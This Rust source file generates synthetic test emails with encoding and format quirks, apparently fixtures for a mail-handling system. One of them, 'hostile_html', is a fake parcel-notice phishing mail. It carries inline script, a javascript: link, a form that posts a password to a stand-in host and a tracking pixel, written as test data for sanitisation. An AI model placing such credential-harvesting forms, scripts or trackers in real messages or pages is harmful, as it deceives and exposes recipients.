//! Mails with something wrong or unusual about them, as they come to every company.

use super::company::Mailbox;
use super::files;
use super::mail::{Mail, Part, Writing, attachment, date, multipart};
use super::random::Random;
use encoding_rs::WINDOWS_1250;
use jiff::{SignedDuration, Timestamp};

/// A mail to a mailbox, as bytes.
pub type Raw = (Mailbox, Timestamp, Vec<u8>);

/// All of them.
pub fn all(now: Timestamp, random: &mut Random) -> Vec<Raw> {
    let ago = |hours: i64| now - SignedDuration::from_hours(hours);
    vec![
        headers_in_windows_1250(ago(9)),
        wrong_charset(ago(33)),
        scan_without_message_id(ago(50), 1, random),
        scan_without_message_id(ago(51), 2, random),
        winmail(ago(76), random),
        forwarded_as_attachment(ago(100), random),
        hostile_html(ago(120)),
        nothing_but_a_file(ago(147), random),
        html_only(ago(170)),
    ]
}

/// The same mail, delivered to a second mailbox: other trace lines, the rest to the byte.
pub fn copy_for(mail: &Mail, writing: Writing, mailboxes: [Mailbox; 2], random: &mut Random) -> Vec<Raw> {
    // Boundaries and ids are in the mail; only the trace lines are drawn anew.
    mailboxes.map(|to| (to, mail.at, mail.bytes(writing, Some(to.address()), random))).into()
}

fn head(at: Timestamp, id: &str, to: Mailbox) -> String {
    format!("Delivered-To: {}\r\nMessage-ID: <{id}>\r\nDate: {}\r\n", to.address(), date(at))
}

/// An old accounting program: raw 8-bit headers, no charset anywhere.
fn headers_in_windows_1250(at: Timestamp) -> Raw {
    let to = Mailbox::Orders;
    let text = format!(
        "{}From: \"Účtárna Ocel Morava\" <ucetni@ocel-morava.example>\r\nTo: {}\r\n\
         Subject: Upomínka: faktura č. 20261877 po splatnosti\r\n\r\n\
         Dobrý den,\r\n\r\npodle naší evidence zůstává faktura č. 20261877 o tři dny po splatnosti. Pokud jste již\r\n\
         zaplatili, považujte prosím tuto zprávu za bezpředmětnou.\r\n\r\nÚčtárna, Ocel Morava, a.s.\r\n",
        head(at, "upominka.20261877@ocel-morava.example", to),
        to.address()
    );
    (to, at, WINDOWS_1250.encode(&text).0.into_owned())
}

/// Says ISO-8859-1 and is windows-1250.
fn wrong_charset(at: Timestamp) -> Raw {
    let to = Mailbox::Helpdesk;
    let text = format!(
        "{}From: Hugo <hugo@autoservis-vesely.example>\r\nTo: {}\r\nSubject: Skrin drhne\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
         Dobrý den,\r\n\r\nšestá skříň z poslední dodávky při zavírání drhne o rám. Přijeďte se prosím podívat,\r\n\
         žádné spěchání, stačí příští týden.\r\n\r\nHugo Veselý\r\n",
        head(at, "drhne.6@autoservis-vesely.example", to),
        to.address()
    );
    (to, at, WINDOWS_1250.encode(&text).0.into_owned())
}

/// A copier in the hall has never heard of Message-ID.
fn scan_without_message_id(at: Timestamp, page: u32, random: &mut Random) -> Raw {
    let to = Mailbox::Orders;
    let lines = ["Delivery note".to_owned(), format!("page {page}")];
    let body = multipart(
        "mixed",
        "",
        &[
            Writing::PLAIN.text("plain", "Device: hall-2\nPages: 1\n"),
            attachment(&format!("scan_{page:04}.pdf"), "application/pdf", &files::pdf(&lines)),
        ],
        random,
    );
    let mail = Mail {
        at,
        from: (String::new(), "scanner@acme.example".into()),
        to: vec![(String::new(), to.address().into())],
        cc: Vec::new(),
        subject: "Scan from hall-2".into(),
        message_id: None,
        in_reply_to: None,
        references: Vec::new(),
        extra: Vec::new(),
        body,
    };
    (to, at, mail.bytes(Writing::PLAIN, Some(to.address()), random))
}

/// A file wrapped by somebody's Exchange.
fn winmail(at: Timestamp, random: &mut Random) -> Raw {
    let to = Mailbox::Helpdesk;
    let picture = files::winmail("hinge.pdf", &files::pdf(&["Hinge, drawing 14".to_owned()]));
    let parts = [
        Writing::PLAIN.text("plain", "Hello,\n\nthe drawing of the hinge is attached.\n\nUlla Berg\n"),
        attachment("winmail.dat", "application/ms-tnef", &picture),
    ];
    let body = multipart("mixed", "", &parts, random);
    (to, at, simple(at, ("Ulla Berg", "ulla@bluebird-robotics.example"), to, "Hinge drawing", body, random))
}

fn forwarded_as_attachment(at: Timestamp, random: &mut Random) -> Raw {
    let to = Mailbox::Carla;
    let inner = simple(
        at - SignedDuration::from_hours(20),
        ("Michał Kamiński", "michal@stal-pol.example"),
        Mailbox::Orders,
        "Nowy termin dostawy blachy",
        Writing::PLAIN.text(
            "plain",
            "Dzień dobry,\n\nblacha wyjedzie dopiero w poniedziałek, przepraszamy.\n\nMichał Kamiński\n",
        ),
        random,
    );
    let parts = [
        Writing::PLAIN.text("plain", "Carlo, tohle přišlo k nám, ale patří to tobě.\n\nEmil\n"),
        Part { headers: "Content-Type: message/rfc822\r\n".into(), body: inner },
    ];
    let body = multipart("mixed", "", &parts, random);
    let from = ("Emil Havel", "emil@acme.example");
    (to, at, simple(at, from, to, "Fwd: Nowy termin dostawy blachy", body, random))
}

/// Tries a script, a form and a picture that tells on its reader.
fn hostile_html(at: Timestamp) -> Raw {
    let to = Mailbox::Press;
    let text = format!(
        "{}From: Parcel Service <info@parcel-prize.example>\r\nTo: {}\r\nSubject: Your parcel is waiting - confirm now\r\n\
         MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
         <html><body onload=\"alert(1)\"><script>document.title='gone'</script>\r\n\
         <p>Your parcel is waiting. <a href=\"javascript:alert(2)\">Confirm here</a>.</p>\r\n\
         <form action=\"https://parcel-prize.example/take\"><input name=password></form>\r\n\
         <img src=\"https://parcel-prize.example/seen.gif?who=press\" width=1 height=1></body></html>\r\n",
        head(at, "waiting.991@parcel-prize.example", to),
        to.address()
    );
    (to, at, text.into_bytes())
}

fn nothing_but_a_file(at: Timestamp, random: &mut Random) -> Raw {
    let to = Mailbox::Ben;
    let body = attachment("foto haly.png", "image/png", &files::shelf_png(480, 300, 2));
    (to, at, simple(at, ("David Kolář", "david@dilny-kolar.example"), to, "", body, random))
}

fn html_only(at: Timestamp) -> Raw {
    let to = Mailbox::Orders;
    let text = format!(
        "{}From: =?utf-8?Q?=C5=BDaneta_W=C3=B3jcik?= <zaneta@hurtownia-wisniewski.example>\r\nTo: {}\r\n\
         Subject: =?utf-8?Q?Zapytanie_o_dost=C4=99pno=C5=9B=C4=87?=\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
         <div style=\"font-family:Verdana;font-size:13px\"><p>Dzień dobry,</p>\r\n\
         <p>czy model <b>T-45</b> jest dostępny <span style=\"color:#b00020\">od ręki</span>? Potrzebujemy:</p>\r\n\
         <table border=1 cellpadding=6><tr><th>Model</th><th>Sztuk</th></tr>\r\n\
         <tr><td>T-45</td><td>12</td></tr><tr><td>T-32</td><td>4</td></tr></table>\r\n\
         <p>Pozdrawiam<br>Żaneta Wójcik</p></div>\r\n",
        head(at, "dostepnosc.45@hurtownia-wisniewski.example", to),
        to.address()
    );
    (to, at, text.into_bytes())
}

fn simple(
    at: Timestamp,
    from: (&str, &str),
    to: Mailbox,
    subject: &str,
    body: Part,
    random: &mut Random,
) -> Vec<u8> {
    let domain = from.1.rsplit('@').next().unwrap_or_default();
    let mail = Mail {
        at,
        from: (from.0.to_owned(), from.1.to_owned()),
        to: vec![(to.name().to_owned(), to.address().to_owned())],
        cc: Vec::new(),
        subject: subject.to_owned(),
        message_id: Some(format!("{:x}.{:08x}@{domain}", at.as_second(), random.next() >> 32)),
        in_reply_to: None,
        references: Vec::new(),
        extra: Vec::new(),
        body,
    };
    mail.bytes(Writing::PLAIN, Some(to.address()), random)
}
